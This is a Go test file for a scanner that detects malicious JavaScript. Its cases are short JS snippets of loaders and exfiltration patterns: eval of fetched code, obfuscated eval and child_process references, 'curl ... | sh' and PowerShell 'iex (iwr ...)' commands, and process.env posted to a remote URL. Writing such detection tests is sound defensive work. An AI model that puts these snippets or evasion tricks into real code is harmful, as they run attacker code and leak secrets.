package scan

import (
	"strings"
	"testing"
)

// TestJSFlowDetector: the evasions of the exec and eval checks a reviewer
// found (escaped and joined names, node: prefixes, whitespace, indirect
// and computed eval, flows through variables and callbacks) are found;
// the forms clean libraries use (code generators' new Function, the
// bundlers' (0, eval)('this'), a child process handed process.env) are
// not.
func TestJSFlowDetector(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, path, src string
		want            string // rule id expected ("" for none)
	}{
		{"eval space", "a.js", "const r = await axios.get(u)\neval (r.data)\n", "JS-EXEC-FETCHED"},
		{"indirect eval of fetched", "a.js", "fetch(u).then(x => x.text()).then(code => { (0, eval)(code) })\n", "JS-EXEC-FETCHED"},
		{"new Function of fetched", "a.js", "const res = await fetch(C2);\nconst body = await res.text();\nnew Function('require', body)(require);\n", "JS-EXEC-FETCHED"},
		{"globalThis concat", "a.js", "const k = 'ev' + 'al';\nglobalThis['ev' + 'al'](x)\n", "JS-SINK-OBFUSCATED"},
		{"globalThis plain", "a.js", "globalThis[\"eval\"](payload)\n", "JS-SINK-OBFUSCATED"},
		{"escaped ident", "a.js", "\\u0065val(payload)\n", "JS-SINK-OBFUSCATED"},
		{"hex escaped module", "a.js", "const cp = require(\"\\x63hild_process\");\n", "JS-SINK-OBFUSCATED"},
		{"concat module", "a.js", "const cp = require('child_' + 'process');\n", "JS-SINK-OBFUSCATED"},
		{"fromCharCode module", "a.js", "const m = require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115));\n", "JS-SINK-OBFUSCATED"},
		{"node: import exec fetched", "a.mjs", "import { exec as run } from 'node:child_process';\nconst { data } = await axios.get(u);\nrun(data);\n", "JS-EXEC-FETCHED"},
		{"dynamic import exec socket", "a.js", "const { exec } = await import(\"node:child_process\");\nconst socket = io(C2);\nsocket.on('command', (msg) => { exec(msg.cmd) });\n", "JS-EXEC-FETCHED"},
		{"require node: spawn https", "a.js", "const cp = require('node:child_process');\nhttps.get(u, res => { let b = ''; res.on('data', c => b += c); res.on('end', () => cp.execSync(b)) });\n", "JS-EXEC-FETCHED"},
		{"eval base64", "a.js", "const p = Buffer.from(blob, 'base64').toString();\neval(p);\n", "JS-EXEC-DECODED"},
		{"eval alias decoded", "a.js", "const run = globalThis[\"ev\" + \"al\"];\nfunction stage(b) { const code = Buffer.from(b, 'base64').toString(); return run(code); }\n", "JS-EXEC-DECODED"},
		{"eval atob", "a.js", "eval(atob(s));\n", "JS-EXEC-DECODED"},
		{"hex helper", "a.js", "const g = (h) => h.replace(/../g, m => String.fromCharCode(parseInt(m, 16)));\nconst code = g(blob);\nnew Function(code)();\n", "JS-EXEC-DECODED"},
		{"env spread posted", "a.js", "const info = { ...process.env, host: os.hostname() };\naxios.post(url, info);\n", "JS-ENV-EXFIL-FLOW"},
		{"env entries fetch", "a.js", "const pairs = Object.entries(process.env);\nawait fetch(url, {\n  method: 'POST',\n  body: JSON.stringify(pairs),\n});\n", "JS-ENV-EXFIL-FLOW"},
		{"env stringify socket", "a.js", "const e = JSON.stringify(process.env)\nsocket.emit('hello', e)\n", "JS-ENV-EXFIL-FLOW"},
		{"env via helper", "a.js", "function collect() { return { ...process.env } }\nrequest.post({ url: u, json: collect() })\n", "JS-ENV-EXFIL-FLOW"},

		{"exec curl pipe", "a.js", "const { exec } = require('child_process');\nexec(`curl -s http://${h}/pdown | sh`);\n", "JS-EXEC-FETCHED"},
		{"exec cmd var iex", "a.js", "const cp = require('node:child_process');\nconst c = 'powershell -c \"iex (iwr ' + u + ').Content\"';\ncp.execSync(c);\n", "JS-EXEC-FETCHED"},
		{"clean exec curl to file", "a.js", "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o out.tgz ' + url);\n", ""},
		{"clean new Function codegen", "a.js", "const src = 'return a + b';\nconst f = new Function('a', 'b', src);\n", ""},
		{"clean global this", "a.js", "var g = (0, eval)('this') || new Function('return this')();\n", ""},
		{"clean spawn env", "a.js", "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { env: { ...process.env, NODE_ENV: 'test' } });\n", ""},
		{"clean env field posted", "a.js", "const env = process.env;\nfetch(url, { headers: { authorization: env.TOKEN } });\n", ""},
		{"clean regex exec", "a.js", "const m = /a(b)/.exec(s);\nconst r = await fetch(u);\n", ""},
		{"clean exec plain", "a.js", "const { execSync } = require('child_process');\nexecSync('git rev-parse HEAD');\n", ""},
		{"clean eval constant", "a.js", "eval('1 + 1');\n", ""},
		{"promise then eval", "a.js", "fetch(u).then(r => r.text()).then(eval)\n", "JS-EXEC-FETCHED"},
		{"promise then Function", "a.js", "const run = globalThis.eval;\naxios.get(u).then(r => r.data).then(run)\n", "JS-EXEC-FETCHED"},
		{"async await chain", "a.js", "async function main() {\n  const res = await fetch(u);\n  const code = await res.text();\n  new Function(code)();\n}\n", "JS-EXEC-FETCHED"},
		{"object property", "a.js", "const o = {};\nhttps.get(u, res => { res.on('data', c => { o.code += c }); res.on('end', () => eval(o.code)) });\n", "JS-EXEC-FETCHED"},
		{"array element", "a.js", "const parts = [];\nconst r = await fetch(u);\nparts[0] = await r.text();\nvm.runInThisContext(parts.join(''));\n", "JS-EXEC-FETCHED"},
		{"array push module compile", "a.js", "https.get(u, res => {\n  const chunks = [];\n  res.on('data', c => chunks.push(c));\n  res.on('end', () => { const m = require('module'); const x = new m(); x._compile(Buffer.concat(chunks).toString(), __filename); });\n});\n", "JS-EXEC-FETCHED"},
		{"Reflect.apply eval", "a.js", "const s = net.connect(443, h);\ns.on('data', d => { Reflect.apply(eval, null, [d.toString()]); });\n", "JS-EXEC-FETCHED"},
		{"Worker eval", "a.js", "const { Worker } = require('worker_threads');\nfetch(u).then(r => r.text()).then(t => new Worker(t, { eval: true }));\n", "JS-EXEC-FETCHED"},
		{"constructor constructor", "a.js", "const F = [].constructor.constructor;\nfetch(u).then(r => r.text()).then(t => F(t)());\n", "JS-EXEC-FETCHED"},
		{"AsyncFunction", "a.js", "const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\nconst t = await (await fetch(u)).text();\nawait AsyncFunction('require', t)(require);\n", "JS-EXEC-FETCHED"},
		{"data URL import", "a.mjs", "const t = await (await fetch(u)).text();\nawait import('data:text/javascript;base64,' + Buffer.from(t).toString('base64'));\n", "JS-EXEC-FETCHED"},
		{"setTimeout string", "a.js", "const r = await axios.get(u);\nsetTimeout(r.data.code, 10);\n", "JS-EXEC-FETCHED"},
		{"module name through const", "a.js", "const C = 'child' + '_process';\naxios.post(u, {}).then(r => require(C).execSync(r.data.cmd));\n", "JS-EXEC-FETCHED"},
		{"clean setTimeout callback", "a.js", "const r = await axios.get(u);\nsetTimeout(() => render(r.data), 10);\nsetTimeout(tick, 10);\nfunction tick() { show(r.data) }\n", ""},
		{"clean import computed", "a.mjs", "const mod = await import(pathToFileURL(file).href);\nconst res = await fetch(u);\n", ""},
		{"clean this constructor", "a.js", "const C = this.constructor;\nconst r = await fetch(u);\nnew C(await r.json());\n", ""},
		{"clean push fetched", "a.js", "const out = [];\nconst r = await fetch(u);\nout.push(await r.json());\nconsole.log(out);\n", ""},
		{"one-line form left to rule", "a.js", "axios.post(u, {...process.env}).then(r => eval(r.data))\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := JSFlowDetector{}.Detect(&File{Path: tc.path, Data: []byte(tc.src)})
			var ids []string
			for _, f := range got {
				ids = append(ids, f.Rule+"@"+string(f.Severity))
				if f.Explanation == "" || f.Line < 1 {
					t.Errorf("finding without explanation or line: %+v", f)
				}
			}
			if tc.want == "" {
				if len(got) > 0 {
					t.Errorf("want no finding, got %v", ids)
				}
				return
			}
			if !strings.Contains(strings.Join(ids, " "), tc.want+"@") {
				t.Errorf("want %s, got %v", tc.want, ids)
			}
		})
	}
}

// TestJSFlowLongFile: a loader at the end of a file longer than a chunk
// (a bundle with code appended) is found, at its line in the file.
func TestJSFlowLongFile(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for b.Len() < 3*jsChunk {
		b.WriteString("function f(a, b) { return a.concat(b).map(x => x * 2); }\n")
	}
	lines := strings.Count(b.String(), "\n")
	b.WriteString("const r = await fetch(u);\nconst code = await r.text();\neval(code);\n")
	got := JSFlowDetector{}.Detect(&File{Path: "bundle.js", Data: []byte(b.String())})
	if len(got) != 1 || got[0].Rule != "JS-EXEC-FETCHED" || got[0].Line != lines+3 {
		t.Fatalf("got %+v, want JS-EXEC-FETCHED at line %d", got, lines+3)
	}
}
